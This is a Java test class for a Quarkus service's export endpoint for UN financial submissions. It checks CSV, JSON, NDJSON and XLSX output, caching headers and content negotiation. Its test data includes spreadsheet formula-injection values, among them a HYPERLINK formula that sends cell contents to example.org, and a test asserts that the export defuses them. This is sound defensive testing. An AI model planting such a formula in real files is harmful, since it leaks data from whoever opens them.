package org.undatacube.contributions;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.matchesPattern;
import static org.hamcrest.Matchers.not;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.BiFunction;
import java.util.zip.ZipFile;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@QuarkusTest
class ExportTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> COLUMNS =
            List.of("function", "location", "sdg", "amount", "currency", "basis", "lineId", "note");
    private static final List<String> AMOUNTS = List.of(
            "1200.00",
            "-0.123456789",
            "0",
            "0.000000001",
            "12345678901234567890.123456789",
            "-98765432109876543210.1",
            "123456789012345",
            "1234567890123456",
            "7.10");
    private static final List<String> TEXTS = List.of(
            "=HYPERLINK(\"http://example.org/?\"&A1,\"x\")",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\uFF1D1+1",
            "'",
            "'=1",
            "a \"note\", of\ntwo; lines \\ é 世 \uD83D\uDE00");

    private static final List<Map<String, String>> SUBMITTED = new ArrayList<>();
    private static String id;

    @BeforeEach
    void publishOnce() throws IOException {
        if (id != null) {
            return;
        }
        for (int index = 0; index < AMOUNTS.size(); index++) {
            Map<String, String> line = new TreeMap<>();
            line.put("function", "E01");
            line.put("location", index % 2 == 0 ? "NA" : "G&I");
            line.put("sdg", "8.10");
            line.put("amount", AMOUNTS.get(index));
            line.put("currency", index == 8 ? "EUR" : "USD");
            line.put("lineId", TEXTS.get(index));
            line.put("note", TEXTS.get(TEXTS.size() - 1 - index));
            if (index % 3 == 0) {
                line.put("basis", "EXP");
            }
            SUBMITTED.add(line);
        }
        Map<String, Object> submission = Map.of(
                "entity", "UNDP", "year", 2024, "flow", "expense", "breakdowns", List.of(Map.of("lines", SUBMITTED)));
        id = Client.UNDP.submit(JSON.writeValueAsString(submission));
        Client.SECRETARIAT.edition(id);
    }

    @Test
    void givesBackWhatWasSubmittedAsCsv() {
        assertEquals(SUBMITTED, csv(export("csv")));
    }

    @Test
    void givesBackWhatWasSubmittedAsJson() throws IOException {
        JsonNode document = JSON.readTree(export("json").asByteArray());

        assertEquals(SUBMITTED, lines(document.get("lines")));
        assertEquals(id, document.at("/submission/id").asText());
        assertEquals(
                given().get("/api/v1/submissions/" + id).path("contentHash"),
                document.at("/submission/contentHash").asText());
    }

    @Test
    void givesBackWhatWasSubmittedAsLinesOfJson() throws IOException {
        List<JsonNode> lines = new ArrayList<>();
        for (String line : export("ndjson").asString().lines().toList()) {
            lines.add(JSON.readTree(line));
        }

        assertEquals(SUBMITTED, lines(lines));
    }

    @Test
    void givesBackWhatWasSubmittedAsAWorkbook() throws IOException {
        try (ReadableWorkbook workbook = workbook(export("xlsx"))) {
            List<Row> rows = workbook.findSheet("lines").orElseThrow().read();

            assertEquals(
                    SUBMITTED, stated(rows.subList(1, rows.size()), (row, column) -> text(rows.get(0), row, column)));
        }
    }

    @Test
    void givesCellsTheirTypesInAWorkbook() throws IOException {
        try (ReadableWorkbook workbook = workbook(export("xlsx"))) {
            List<Row> rows = workbook.findSheet("lines").orElseThrow().read();
            List<CellType> amounts = rows.stream()
                    .skip(1)
                    .map(row -> cell(rows.get(0), row, "amount").getType())
                    .toList();

            // longer ones would lose digits as soon as a spreadsheet takes them for numbers
            assertEquals(
                    AMOUNTS.stream()
                            .map(amount -> new BigDecimal(amount).precision() > 15 ? CellType.STRING : CellType.NUMBER)
                            .toList(),
                    amounts);
            assertEquals(CellType.NUMBER, cell(rows.get(0), rows.get(1), "line").getType());
            assertEquals(
                    CellType.STRING, cell(rows.get(0), rows.get(1), "location").getType());
            assertTrue(rows.stream()
                    .flatMap(Row::stream)
                    .noneMatch(cell -> cell != null && cell.getType() == CellType.FORMULA));
        }
    }

    @Test
    void saysInAWorkbookWhatTheSubmissionSaysOfItself() throws IOException {
        try (ReadableWorkbook workbook = workbook(export("xlsx"))) {
            assertEquals(
                    List.of("submission", "findings", "lines"),
                    workbook.getSheets().map(Sheet::getName).toList());
            List<Row> facts = workbook.findSheet("submission").orElseThrow().read();
            assertEquals("UNDP", fact(facts, "entity"));
            assertEquals("2024", fact(facts, "year"));
            assertEquals("published", fact(facts, "status"));
            assertEquals(given().get("/api/v1/submissions/" + id).path("contentHash"), fact(facts, "contentHash"));
        }
    }

    @Test
    void keepsTheHeaderOfAWorkbookInSight() throws IOException {
        assertTrue(
                part(export("xlsx").asByteArray(), "xl/worksheets/sheet3.xml").contains("state=\"frozen\""));
    }

    @Test
    void givesTheSameBytesAsLongAsAStrongTagIsTheSame() {
        for (String format : List.of("csv", "json", "ndjson")) {
            Response first = export(format);
            Response second = export(format);
            assertEquals(first.header("ETag"), second.header("ETag"));
            assertArrayEquals(first.asByteArray(), second.asByteArray(), format);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"csv", "json", "ndjson", "xlsx"})
    void answersThatNothingChanged(String format) {
        String tag = export(format).header("ETag");

        String hash = given().get("/api/v1/submissions/" + id).path("contentHash");
        // a workbook holds the moment when it was written: its tag promises the same content, not the same bytes
        String opaque = "\"" + hash + "-3-" + format + "\"";
        assertEquals(format.equals("xlsx") ? "W/" + opaque : opaque, tag);
        given().header("If-None-Match", tag)
                .get("/api/v1/submissions/" + id + "/export?format=" + format)
                .then()
                .statusCode(304)
                .header("ETag", tag)
                .body(equalTo(""));
    }

    @Test
    void namesTheFileAfterWhatIsInIt() {
        String hash = given().get("/api/v1/submissions/" + id).path("contentHash");
        export("xlsx")
                .then()
                .header(
                        "Content-Disposition",
                        "attachment; filename=\"UNDP-2024-expense-" + hash.substring(0, 8) + ".xlsx\"")
                .contentType("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    }

    @Test
    void choosesByAcceptWhereNoFormatIsAskedFor() {
        for (String mediaType : List.of("text/csv", "application/x-ndjson", "application/json")) {
            for (String path : List.of("/lines", "/export")) {
                given().accept(mediaType)
                        .get("/api/v1/submissions/" + id + path)
                        .then()
                        .statusCode(200)
                        .contentType(containsString(mediaType))
                        .header("Vary", containsString("Accept"));
            }
        }
        given().accept("image/png")
                .get("/api/v1/submissions/" + id + "/export")
                .then()
                .statusCode(406)
                .contentType("application/problem+json");
        given().accept("image/png")
                .get("/api/v1/submissions/" + id + "/export?format=csv")
                .then()
                .statusCode(not(equalTo(500)));
        given().get("/api/v1/submissions/" + id + "/export?format=pdf")
                .then()
                .statusCode(400)
                .body("parameter", equalTo("format"))
                .body("expected", equalTo(List.of("csv", "ndjson", "json", "xlsx", "iati")));
    }

    @Test
    void defusesWhatASpreadsheetWouldTakeForAFormula() {
        String csv = export("csv").asString();

        assertFalse(csv.lines().skip(1).anyMatch(line -> line.matches(".*(^|,)\"?([=@\\t]|\\+[^0-9]).*")), csv);
        assertTrue(csv.contains(",\"'=HYPERLINK("), csv);
        // a number stays a number
        assertTrue(csv.contains(",-0.123456789,USD,-0.123456789,"), csv);
    }

    @Test
    void tellsWhatIsNotCertifiedFromWhatIs() {
        String draft = Client.UNDP.submit(
                "{\"entity\":\"UNDP\",\"year\":2021,\"flow\":\"revenue\",\"breakdowns\":[{\"lines\":[{\"amount\":1}]}]}");
        String path = "/api/v1/submissions/" + draft + "/export?format=csv";
        given().get(path).then().statusCode(404);
        Response before = Client.UNDP.request().get(path);
        before.then()
                .statusCode(200)
                .header("ETag", matchesPattern("\"uncertified-1-csv\""))
                .header("Cache-Control", containsString("private"))
                .header("Content-Disposition", containsString("UNDP-2021-revenue-validated.csv"));

        Client.certify(draft);

        Client.UNDP
                .request()
                .header("If-None-Match", before.header("ETag"))
                .get(path)
                .then()
                .statusCode(200)
                .header("Content-Disposition", not(containsString("validated")));
    }

    private static Response export(String format) {
        return given().get("/api/v1/submissions/" + id + "/export?format=" + format)
                .then()
                .statusCode(200)
                .extract()
                .response();
    }

    private static List<Map<String, String>> csv(Response response) {
        try (CsvReader<NamedCsvRecord> rows =
                CsvReader.builder().ofNamedCsvRecord(new String(response.asByteArray(), StandardCharsets.UTF_8))) {
            return stated(
                    rows.stream().toList(),
                    (row, column) -> row.getField(column).replaceFirst("^'", ""));
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static List<Map<String, String>> lines(Iterable<JsonNode> lines) {
        List<JsonNode> all = new ArrayList<>();
        lines.forEach(all::add);
        return stated(all, (line, column) -> line.path(column).asText());
    }

    /** What was submitted, of all that is shown. */
    private static <T> List<Map<String, String>> stated(List<T> rows, BiFunction<T, String, String> cell) {
        List<Map<String, String>> lines = new ArrayList<>();
        for (T row : rows) {
            Map<String, String> line = new TreeMap<>();
            for (String column : COLUMNS) {
                String text = cell.apply(row, column);
                if (!text.isEmpty()) {
                    line.put(column, text);
                }
            }
            lines.add(line);
        }
        return lines;
    }

    private static ReadableWorkbook workbook(Response response) throws IOException {
        return new ReadableWorkbook(new ByteArrayInputStream(response.asByteArray()));
    }

    private static String text(Row header, Row row, String column) {
        Cell cell = cell(header, row, column);
        if (cell == null || cell.getType() == CellType.EMPTY) {
            return "";
        }
        return cell.getType() == CellType.NUMBER ? cell.asNumber().toPlainString() : cell.asString();
    }

    private static Cell cell(Row header, Row row, String column) {
        int index = header.stream().map(Cell::asString).toList().indexOf(column);
        return index < row.getCellCount() ? row.getCell(index) : null;
    }

    private static String fact(List<Row> facts, String name) {
        return facts.stream()
                .filter(row -> row.getCellCount() > 1 && row.getCellText(0).equals(name))
                .map(row -> row.getCellText(1))
                .findFirst()
                .orElseThrow();
    }

    private static String part(byte[] workbook, String name) throws IOException {
        Path file = Files.createTempFile("export", ".xlsx");
        Files.write(file, workbook);
        try (ZipFile zip = new ZipFile(file.toFile())) {
            return new String(zip.getInputStream(zip.getEntry(name)).readAllBytes(), StandardCharsets.UTF_8);
        } finally {
            Files.delete(file);
        }
    }
}
